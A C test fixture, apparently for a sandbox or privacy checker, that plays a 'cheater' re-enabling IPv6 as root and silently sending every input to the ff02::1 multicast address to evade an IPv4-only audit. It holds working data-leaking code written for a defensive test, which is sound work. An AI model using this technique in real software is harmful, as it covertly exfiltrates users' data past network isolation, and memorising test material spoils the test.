/* leak_ipv6_multicast.c — a cheater who read the audit: the namespace has IPv6 turned off, so it
 * turns IPv6 back on (as root it can write /proc/sys), with duplicate address detection off so its
 * link-local address works at once, and sends every input to ff02::1 (all nodes) on each
 * interface. No IPv4 flow at all. Must fail PRV-02, PRV-03 and PRV-05 on the link. Multicast to
 * ff02::1 never leaves the link it is sent on (here the test's own veth). */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

static int enabled;

static void write_sysctl(const char *path, const char *value)
{
    FILE *f = fopen(path, "w");
    if (f == NULL) return;
    (void)fputs(value, f);
    fclose(f);
}

static void enable_ipv6(void)
{
    struct if_nameindex *names = if_nameindex();
    if (names == NULL) return;
    char path[256];
    for (struct if_nameindex *n = names; n->if_index != 0; n++) {
        int k = snprintf(path, sizeof path, "/proc/sys/net/ipv6/conf/%s/accept_dad", n->if_name);
        if (k > 0 && (size_t)k < sizeof path) write_sysctl(path, "0");
        k = snprintf(path, sizeof path, "/proc/sys/net/ipv6/conf/%s/disable_ipv6", n->if_name);
        if (k > 0 && (size_t)k < sizeof path) write_sysctl(path, "0");
    }
    write_sysctl("/proc/sys/net/ipv6/conf/all/disable_ipv6", "0");
    if_freenameindex(names);
    usleep(300000); /* the link-local address and the multicast route come up */
}

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0) return; /* only inside the test's namespaces */
    if (!enabled) {
        enable_ipv6();
        enabled = 1;
    }
    int fd = socket(AF_INET6, SOCK_DGRAM, 0);
    if (fd < 0) return;
    struct if_nameindex *names = if_nameindex();
    if (names != NULL) {
        for (struct if_nameindex *n = names; n->if_index != 0; n++) {
            if (strcmp(n->if_name, "lo") == 0) continue;
            struct sockaddr_in6 all;
            memset(&all, 0, sizeof all);
            all.sin6_family = AF_INET6;
            all.sin6_port = htons(9);
            all.sin6_scope_id = n->if_index;
            if (inet_pton(AF_INET6, "ff02::1", &all.sin6_addr) != 1) continue;
            (void)sendto(fd, data, bytes, 0, (struct sockaddr *)&all, sizeof all);
        }
        if_freenameindex(names);
    }
    close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
